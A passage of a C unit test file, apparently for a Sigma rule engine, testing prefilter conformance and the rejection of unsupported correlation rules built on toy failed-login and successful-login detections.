		print_message("# no Sigma corpus at %s: conformance only\n",
		    sig);

	/* the conformance suite's rules over its events */
	snprintf(dir, sizeof(dir), "%s/tests/sigma/cases", top());
	snprintf(dec, sizeof(dec), "%s/tests/sigma/decoders.yml", top());
	paths[0] = dec;
	paths[1] = dir;
	pfeq_open(&q, paths, 2, &with, &without, 0);
	files = NULL;
	nfiles = list_files(dir, ".events", &files, 0);
	for (size_t i = 0; i < nfiles; i++) {
		FILE *f = fopen(files[i], "r");

		assert_non_null(f);
		while ((n = getline(&line, &cap, f)) > 0) {
			if (line[n - 1] == '\n')
				line[--n] = '\0';
			if (n < 2 || (line[0] != '+' && line[0] != '-'))
				continue;
			pfeq_line(&q, line + 2, (size_t)n - 2);
		}
		fclose(f);
	}
	free_list(files, nfiles);
	print_message("# conformance: %zu events, %zu matched: same with and "
	    "without the prefilter\n", q.lines, q.matched);
	assert_true(q.matched > 0);
	pfeq_close(&q, &with, &without);
	free(line);
}

/* Correlations that load nothing, with their base rules in the same file:
 * the reason is reported at the correlation's file:line, the base rules
 * still load, and the set holds no such correlation. */
static void
test_correlation_rejects(void **state)
{
	static const char base[] =
	    "title: failed login\nid: rj-fail\nname: fail\nauthor: t\n"
	    "logsource: {product: test}\n"
	    "detection: {sel: {Kind: fail}, condition: sel}\n"
	    "---\n"
	    "title: successful login\nid: rj-ok\nname: success\nauthor: t\n"
	    "logsource: {product: test}\n"
	    "detection: {sel: {Kind: ok}, condition: sel}\n"
	    "---\n"
	    "title: chained\nid: rj-first\nname: first\nauthor: t\n"
	    "correlation: {type: event_count, rules: [fail], timespan: 1m,\n"
	    "  condition: {gte: 2}}\n"
	    "---\n";
	static const struct {
		const char *corr, *want;
		int err;	/* an error: the set is refused */
	} cases[] = {
		{ "  type: temporal_ordered\n  rules: [fail, success]\n"
		  "  group-by: [account]\n  aliases:\n    account:\n"
		  "      fail: User\n      success: TargetUser\n"
		  "  timespan: 1m\n", "groups every rule by one field name" , 0 },
		{ "  type: event_count\n  rules: [first]\n  timespan: 1m\n"
		  "  condition: {gte: 2}\n", "chained correlations are not "
		  "supported" , 0 },
		{ "  type: event_count\n  rules: [fail]\n  timespan: 1m\n"
		  "  condition: {gte: 2, lte: 5}\n", "condition lte is not "
		  "supported" , 0 },
		{ "  type: value_count\n  rules: [fail]\n  timespan: 1m\n"
		  "  condition: {gte: 2, field: [User, Host]}\n",
		  "value_count over several fields is not supported" , 0 },
		{ "  type: temporal_ordered\n  rules: [fail, success]\n"
		  "  group-by: [account]\n  aliases:\n    account:\n"
		  "      fail: User\n  timespan: 1m\n",
		  "alias 'account' names no field for rule 'success'", 1 },
	};
	char dec[512], path[] = "/tmp/tocsin-test-sigma-rj-XXXXXX";
	int fd;

	(void)state;
	snprintf(dec, sizeof(dec), "%s/tests/sigma/decoders.yml", top());
	assert_true((fd = mkstemp(path)) >= 0);
	close(fd);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *paths[2] = { dec, path };
		char *text = xasprintf("%stitle: tested\nid: rj-tested\n"
		    "author: t\ncorrelation:\n%s", base, cases[i].corr);
		struct rules_diags dl;
		ruleset_t *rs = NULL;
		const corr_set_t *cs;
		int found = 0;

		assert_non_null(text);
		assert_int_equal(write_file_atomic(path, text, strlen(text),
		    0644), 0);
		free(text);
		if ((load(paths, 2, &rs, &dl) != 0) != cases[i].err) {
			rules_diags_print(&dl, stderr);
			fail_msg("case %zu %s", i, cases[i].err ? "loaded" :
			    "refused");
		}
		for (size_t k = 0; k < dl.n; k++)
			if (strstr(dl.d[k].msg, cases[i].want) != NULL &&
			    dl.d[k].line >= 19 &&
			    dl.d[k].warning == !cases[i].err)
				found = 1;
		if (!found) {
			rules_diags_print(&dl, stderr);
			fail_msg("case %zu: want a diagnostic at line 19 or "
			    "after: %s", i, cases[i].want);
		}
		if (cases[i].err) {
			rules_diags_free(&dl);
			continue;
		}
		assert_true(ruleset_rule_count(rs) >= 2);
		assert_non_null(cs = ruleset_corr(rs));
		/* only the chained-to correlation "first" loads */
		assert_int_equal(corr_set_count(cs), 1);
		assert_string_equal(corr_set_rule(cs, 0)->id, "rj-first");
		rules_diags_free(&dl);
		ruleset_free(&rs);
	}
	unlink(path);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_glob),
		cmocka_unit_test(test_mapping_file),
		cmocka_unit_test(test_conformance),
		cmocka_unit_test(test_rejections),
		cmocka_unit_test(test_correlation),
		cmocka_unit_test(test_correlation_rejects),
		cmocka_unit_test(test_metadata),
		cmocka_unit_test(test_corpus_loads),
		cmocka_unit_test(test_corpus_fires),
		cmocka_unit_test(test_prefilter_equivalence),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
